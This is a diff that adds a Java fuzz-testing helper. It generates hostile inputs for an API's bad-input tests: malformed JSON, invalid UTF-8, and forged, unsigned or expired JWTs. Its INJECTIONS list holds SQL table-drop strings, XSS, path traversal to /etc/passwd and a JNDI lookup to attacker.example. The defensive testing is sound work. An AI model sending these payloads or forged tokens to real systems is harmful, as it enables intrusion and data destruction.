@@ -1,0 +1,335 @@
+package org.jcm.registry.fuzz;
+
+import com.fasterxml.jackson.databind.ObjectMapper;
+import io.smallrye.jwt.build.Jwt;
+import io.smallrye.jwt.build.JwtClaimsBuilder;
+import io.smallrye.jwt.util.KeyUtils;
+import java.io.ByteArrayOutputStream;
+import java.io.IOException;
+import java.io.InputStream;
+import java.io.UncheckedIOException;
+import java.net.URLEncoder;
+import java.nio.charset.StandardCharsets;
+import java.security.GeneralSecurityException;
+import java.security.PrivateKey;
+import java.time.Duration;
+import java.time.Instant;
+import java.util.ArrayList;
+import java.util.Base64;
+import java.util.LinkedHashMap;
+import java.util.List;
+import java.util.Map;
+import java.util.Set;
+import net.jqwik.api.Arbitraries;
+import net.jqwik.api.Arbitrary;
+
+/**
+ * Hostile input for the bad-input tests, as jqwik arbitraries: broken and truncated JSON, deep
+ * nesting, numbers no field can hold, huge strings, wrong types, invalid UTF-8, injection strings,
+ * control characters, and bearer tokens that are forged, expired, unsigned ({@code alg: none}),
+ * from a stranger, another issuer or another audience.
+ */
+public final class Hostile {
+
+    static final ObjectMapper JSON = new ObjectMapper();
+
+    /** Strings that try SQL, HTML, log, template, path and JNDI injection, and Unicode tricks. */
+    static final List<String> INJECTIONS = List.of(
+            "' OR '1'='1", "'; DROP TABLE ledger_event; --", "\"; DELETE FROM block; --", "1; SELECT pg_sleep(0)--",
+            "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\r\nINFO forged log line\r\n",
+            "line1\nline2\u2028line3", "${jndi:ldap://attacker.example/a}", "#{7*7}", "{{7*7}}", "%s%s%s%n%x",
+            "../../../../etc/passwd", "..%2F..%2Fetc%2Fpasswd", "\u0000", "nul\u0000byte", "\u001b[31mred\u001b[0m",
+            "\u202Eevil\u202C", "\uFEFFbom", "\uD83D\uDE00 emoji", "\uD800", "Ω≈ç√∫", "null", "undefined", "NaN", "-0",
+            " ", "", "\t", "MNG01-H00001' --", "JCM-MN001-2024-1-1; --", "*", "%", "_", "\\", "\"", "'");
+
+    /** JSON numbers that no field of the API can hold, or that parsers treat specially. */
+    static final List<String> NUMBERS = List.of(
+            "1e400", "-1e400", "1e-400", "9223372036854775808", "-9223372036854775809", "18446744073709551616",
+            "-0", "0.0", "-0.0", "1.5", "1E2", "2147483648", "-2147483649", "0", "-1",
+            "1" + "0".repeat(1200), "0." + "0".repeat(2000) + "1",
+            "\"NaN\"", "\"Infinity\"", "\"-Infinity\"", "\"1e400\"", "\"0x10\"", "\"12\"");
+
+    /** Values of the wrong JSON type for any field. */
+    static final List<String> WRONG_TYPES = List.of("null", "true", "false", "[]", "{}", "[1,2,3]", "{\"a\":1}", "\"\"",
+            "[[[[]]]]", "[null]", "{\"$where\":\"1\"}");
+
+    private Hostile() {
+    }
+
+    /** A JSON string literal of {@code text}, with every character escaped as JSON requires. */
+    static String literal(String text) {
+        try {
+            return JSON.writeValueAsString(text);
+        } catch (IOException e) {
+            throw new UncheckedIOException(e);
+        }
+    }
+
+    /** Any hostile value for a field, as JSON text. */
+    static Arbitrary<String> fieldValue() {
+        return Arbitraries.oneOf(
+                Arbitraries.of(NUMBERS),
+                Arbitraries.of(WRONG_TYPES),
+                Arbitraries.of(INJECTIONS).map(Hostile::literal),
+                Arbitraries.of(100_000, 10_000, 1_000, 129, 256).map(n -> literal("x".repeat(n))),
+                Arbitraries.strings().all().ofMaxLength(64).map(Hostile::literal),
+                Arbitraries.strings().withCharRange('\u0000', '\u001f').ofMinLength(1).ofMaxLength(8).map(Hostile::literal),
+                Arbitraries.integers().between(1, 30).map(n -> "[".repeat(n) + "]".repeat(n)));
+    }
+
+    /** A hostile body made from a valid one (given as JSON text), as bytes. */
+    static Arbitrary<byte[]> body(String valid) {
+        Map<String, Object> fields = fields(valid);
+        List<String> names = new ArrayList<>(fields.keySet());
+        Arbitrary<byte[]> fieldReplaced = names.isEmpty() ? Arbitraries.just(utf8(valid))
+                : Arbitraries.of(names).flatMap(name -> fieldValue().map(value -> utf8(replace(fields, name, value))));
+        Arbitrary<byte[]> injectedEverywhere = Arbitraries.of(INJECTIONS).map(text -> utf8(everyTextField(fields, text)));
+        Arbitrary<byte[]> invalidUtf8 = names.isEmpty() ? Arbitraries.just(invalidUtf8InString("x"))
+                : Arbitraries.of(names).map(name -> invalidUtf8InField(fields, name));
+        return Arbitraries.frequencyOf(
+                net.jqwik.api.Tuple.of(4, fieldReplaced),
+                net.jqwik.api.Tuple.of(2, injectedEverywhere),
+                net.jqwik.api.Tuple.of(1, invalidUtf8),
+                net.jqwik.api.Tuple.of(2, Arbitraries.integers().between(0, Math.max(0, valid.length() - 1))
+                        .map(n -> utf8(valid.substring(0, n)))),
+                net.jqwik.api.Tuple.of(1, Arbitraries.of(10_000, 2_000, 1_001).flatMap(depth -> Arbitraries.of(
+                        utf8("[".repeat(depth) + "]".repeat(depth)),
+                        utf8("{\"a\":".repeat(depth) + "1" + "}".repeat(depth)),
+                        utf8(nestInFirstField(fields, depth))))),
+                net.jqwik.api.Tuple.of(2, Arbitraries.of(
+                        "", " ", "null", "true", "0", "[]", "\"text\"", "{", "}", "{\"a\"}", "{,}", "{\"a\":1,}", "[1,]",
+                        "{'single':'quotes'}", "{\"a\":01}", "{\"a\":.5}", "{\"a\":+1}", "{\"a\":NaN}", "{\"a\":Infinity}",
+                        "{\"a\":undefined}", "/* comment */ {}", "{\"a\":1}{\"b\":2}", "\uFEFF{}", "{\"a\":\"\\uZZZZ\"}",
+                        "{\"a\":\"\\ud800\"}", "{\"a\":\"unterminated}").map(Hostile::utf8)),
+                net.jqwik.api.Tuple.of(1, Arbitraries.bytes().array(byte[].class).ofMinSize(1).ofMaxSize(512)),
+                net.jqwik.api.Tuple.of(1, Arbitraries.just(utf8(duplicateFirstField(valid)))),
+                net.jqwik.api.Tuple.of(1, Arbitraries.of(INJECTIONS).map(name -> utf8(withExtraField(fields, name)))));
+    }
+
+    /** Text for a path segment or query value: hostile strings, percent-encoded as a URI allows. */
+    static Arbitrary<String> pathValue() {
+        return Arbitraries.oneOf(
+                Arbitraries.of(INJECTIONS).filter(s -> !s.isEmpty()).map(Hostile::encode),
+                Arbitraries.of(NUMBERS).map(Hostile::encode),
+                Arbitraries.of("%C0%AF", "%FF%FE", "%ED%A0%80", "%00", "%0D%0A", "%E2%80%AE", "..", "%2E%2E", "%2F").map(s -> s),
+                Arbitraries.of(2_000, 300, 129).map("A"::repeat),
+                Arbitraries.strings().withCharRange('!', '~').ofMinLength(1).ofMaxLength(40).map(Hostile::encode));
+    }
+
+    /** A value for {@code limit}: out of range, not a number, or too large for any integer. */
+    static Arbitrary<String> limitValue() {
+        return Arbitraries.oneOf(Arbitraries.of("-1", "0", "1001", "100000", "9223372036854775808", "1e400", "1.5", "abc",
+                        "", "%20", "0x10", "-0", "NaN", "1%2C2").map(s -> s),
+                Arbitraries.integers().between(1001, Integer.MAX_VALUE).map(String::valueOf),
+                Arbitraries.integers().between(Integer.MIN_VALUE, 0).map(String::valueOf));
+    }
+
+    /** A cursor that the service never handed out. */
+    static Arbitrary<String> cursorValue() {
+        return Arbitraries.oneOf(Arbitraries.of("-1", "0", "abc", "%00", "eyJzZXEiOi0xfQ", "eyJzZXEiOiJ4In0",
+                        "eyJ0eXBlIjoiYSJ9", "AAAA", "____", "====", "9223372036854775808", "e30", "bnVsbA").map(s -> s),
+                Arbitraries.strings().withCharRange('A', 'z').ofMinLength(1).ofMaxLength(200).map(Hostile::encode),
+                pathValue());
+    }
+
+    /** The kinds of credentials a hostile caller presents. */
+    enum TokenKind {
+        VALID, NONE, EXPIRED, NOT_YET_VALID, FORGED_SIGNATURE, ALG_NONE, STRANGER_KEY, OTHER_ISSUER, OTHER_AUDIENCE,
+        NO_ISSUER, GARBAGE, NOT_BEARER, WRONG_ROLE, EMPTY_GROUPS, HUGE_CLAIM, INJECTED_SUBJECT
+    }
+
+    /**
+     * The Authorization header for a kind of token, or null for none. {@code subject}, {@code groups}
+     * and {@code claims} describe a caller who would be allowed.
+     */
+    static String authorization(TokenKind kind, String subject, Set<String> groups, Map<String, String> claims) {
+        return switch (kind) {
+            case VALID -> bearer(claims(subject, groups, claims).sign());
+            case NONE -> null;
+            case EXPIRED -> bearer(claims(subject, groups, claims).issuedAt(Instant.now().minus(Duration.ofHours(2)))
+                    .expiresAt(Instant.now().minus(Duration.ofHours(1))).sign());
+            case NOT_YET_VALID -> bearer(claims(subject, groups, claims).claim("nbf", Instant.now().plus(Duration.ofDays(1))
+                    .getEpochSecond()).sign());
+            case FORGED_SIGNATURE -> bearer(forge(claims(subject, groups, claims).sign()));
+            case ALG_NONE -> bearer(unsigned(subject, groups, claims));
+            case STRANGER_KEY -> bearer(claims(subject, groups, claims).sign(strangerKey()));
+            case OTHER_ISSUER -> bearer(claims(subject, groups, claims).issuer("https://attacker.example").sign());
+            case OTHER_AUDIENCE -> bearer(claims(subject, groups, claims).audience("some-other-service").sign());
+            case NO_ISSUER -> bearer(claims(subject, groups, claims).issuer("").sign());
+            case GARBAGE -> "Bearer " + Base64.getUrlEncoder().encodeToString(utf8("not a token at all")) + ".x.y";
+            case NOT_BEARER -> "Basic " + Base64.getEncoder().encodeToString(utf8("operator:operator"));
+            case WRONG_ROLE -> bearer(claims(subject, Set.of("nobody"), claims).sign());
+            case EMPTY_GROUPS -> bearer(claims(subject, Set.of(), claims).sign());
+            case HUGE_CLAIM -> bearer(claims(subject, groups, claims).claim("junk", "j".repeat(4_000)).sign());
+            case INJECTED_SUBJECT -> bearer(claims("'; DROP TABLE idempotency; --\r\nINFO forged", groups, claims).sign());
+        };
+    }
+
+    private static String bearer(String token) {
+        return "Bearer " + token;
+    }
+
+    private static JwtClaimsBuilder claims(String subject, Set<String> groups, Map<String, String> claims) {
+        JwtClaimsBuilder builder = Jwt.issuer("jcm-registry").subject(subject).upn(subject).groups(groups)
+                .expiresIn(Duration.ofHours(1));
+        claims.forEach(builder::claim);
+        return builder;
+    }
+
+    /** The token with one character of its signature changed. */
+    private static String forge(String token) {
+        int dot = token.lastIndexOf('.');
+        char[] chars = token.toCharArray();
+        int at = dot + 1 + (token.length() - dot - 1) / 2;
+        chars[at] = chars[at] == 'A' ? 'B' : 'A';
+        return new String(chars);
+    }
+
+    /** A token with {@code alg: none} and no signature, claiming whatever a caller would want. */
+    private static String unsigned(String subject, Set<String> groups, Map<String, String> claims) {
+        Map<String, Object> payload = new LinkedHashMap<>();
+        payload.put("iss", "jcm-registry");
+        payload.put("sub", subject);
+        payload.put("upn", subject);
+        payload.put("groups", groups);
+        payload.put("exp", Instant.now().plus(Duration.ofHours(1)).getEpochSecond());
+        payload.putAll(claims);
+        try {
+            Base64.Encoder encoder = Base64.getUrlEncoder().withoutPadding();
+            return encoder.encodeToString(utf8("{\"alg\":\"none\",\"typ\":\"JWT\"}")) + "."
+                    + encoder.encodeToString(JSON.writeValueAsBytes(payload)) + ".";
+        } catch (IOException e) {
+            throw new UncheckedIOException(e);
+        }
+    }
+
+    private static PrivateKey strangerKey() {
+        try (InputStream pem = Hostile.class.getResourceAsStream("/jwt/stranger-private-key.pem")) {
+            return KeyUtils.decodePrivateKey(new String(pem.readAllBytes(), StandardCharsets.US_ASCII));
+        } catch (IOException e) {
+            throw new UncheckedIOException(e);
+        } catch (GeneralSecurityException e) {
+            throw new IllegalStateException(e);
+        }
+    }
+
+    // ------------------------------------------------------------------ body surgery
+
+    @SuppressWarnings("unchecked")
+    private static Map<String, Object> fields(String valid) {
+        try {
+            Object parsed = JSON.readValue(valid, Object.class);
+            return parsed instanceof Map<?, ?> map ? (Map<String, Object>) map : Map.of();
+        } catch (IOException e) {
+            return Map.of();
+        }
+    }
+
+    /** The body with one field's value replaced by raw JSON text. */
+    private static String replace(Map<String, Object> fields, String name, String rawValue) {
+        StringBuilder json = new StringBuilder("{");
+        for (Map.Entry<String, Object> field : fields.entrySet()) {
+            if (json.length() > 1) {
+                json.append(',');
+            }
+            json.append(literal(field.getKey())).append(':');
+            json.append(field.getKey().equals(name) ? rawValue : write(field.getValue()));
+        }
+        return json.append('}').toString();
+    }
+
+    /** The body with every string, at any depth, replaced by {@code text}. */
+    private static String everyTextField(Map<String, Object> fields, String text) {
+        return write(replaceStrings(fields, text));
+    }
+
+    private static Object replaceStrings(Object value, String text) {
+        if (value instanceof String) {
+            return text;
+        } else if (value instanceof Map<?, ?> map) {
+            Map<Object, Object> copy = new LinkedHashMap<>();
+            map.forEach((k, v) -> copy.put(k, replaceStrings(v, text)));
+            return copy;
+        } else if (value instanceof List<?> list) {
+            return list.stream().map(v -> replaceStrings(v, text)).toList();
+        }
+        return value;
+    }
+
+    private static String nestInFirstField(Map<String, Object> fields, int depth) {
+        if (fields.isEmpty()) {
+            return "[".repeat(depth) + "]".repeat(depth);
+        }
+        return replace(fields, fields.keySet().iterator().next(), "[".repeat(depth) + "1" + "]".repeat(depth));
+    }
+
+    private static String duplicateFirstField(String valid) {
+        Map<String, Object> fields = fields(valid);
+        if (fields.isEmpty()) {
+            return "{\"a\":1,\"a\":2}";
+        }
+        Map.Entry<String, Object> first = fields.entrySet().iterator().next();
+        return "{" + literal(first.getKey()) + ":" + write(first.getValue()) + "," + valid.substring(valid.indexOf('{') + 1);
+    }
+
+    private static String withExtraField(Map<String, Object> fields, String name) {
+        Map<String, Object> copy = new LinkedHashMap<>(fields);
+        copy.put(name, "x");
+        return write(copy);
+    }
+
+    /** The body with one field set to a string holding bytes that are not UTF-8. */
+    private static byte[] invalidUtf8InField(Map<String, Object> fields, String name) {
+        String marker = "\u0001MARK\u0001";
+        String json = replace(fields, name, literal(marker));
+        return spliceInvalidUtf8(utf8(json), utf8(literal(marker).substring(1, literal(marker).length() - 1)));
+    }
+
+    private static byte[] invalidUtf8InString(String text) {
+        return spliceInvalidUtf8(utf8("{\"a\":\"" + text + "\"}"), utf8(text));
+    }
+
+    private static byte[] spliceInvalidUtf8(byte[] json, byte[] marker) {
+        byte[] invalid = {(byte) 0xC0, (byte) 0xAF, (byte) 0xFF, (byte) 0xFE, (byte) 0xED, (byte) 0xA0, (byte) 0x80, (byte) 0xE2,
+            (byte) 0x82};
+        int at = indexOf(json, marker);
+        if (at < 0) {
+            return json;
+        }
+        ByteArrayOutputStream out = new ByteArrayOutputStream();
+        out.write(json, 0, at);
+        out.write(invalid, 0, invalid.length);
+        out.write(json, at + marker.length, json.length - at - marker.length);
+        return out.toByteArray();
+    }
+
+    private static int indexOf(byte[] haystack, byte[] needle) {
+        outer:
+        for (int i = 0; i <= haystack.length - needle.length; i++) {
+            for (int j = 0; j < needle.length; j++) {
+                if (haystack[i + j] != needle[j]) {
+                    continue outer;
+                }
+            }
+            return i;
+        }
+        return -1;
+    }
+
+    private static String write(Object value) {
+        try {
+            return JSON.writeValueAsString(value);
+        } catch (IOException e) {
+            throw new UncheckedIOException(e);
+        }
+    }
+
+    static byte[] utf8(String text) {
+        return text.getBytes(StandardCharsets.UTF_8);
+    }
+
+    /** Percent-encodes text for a path segment or query value. */
+    static String encode(String text) {
+        return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
+    }
+}
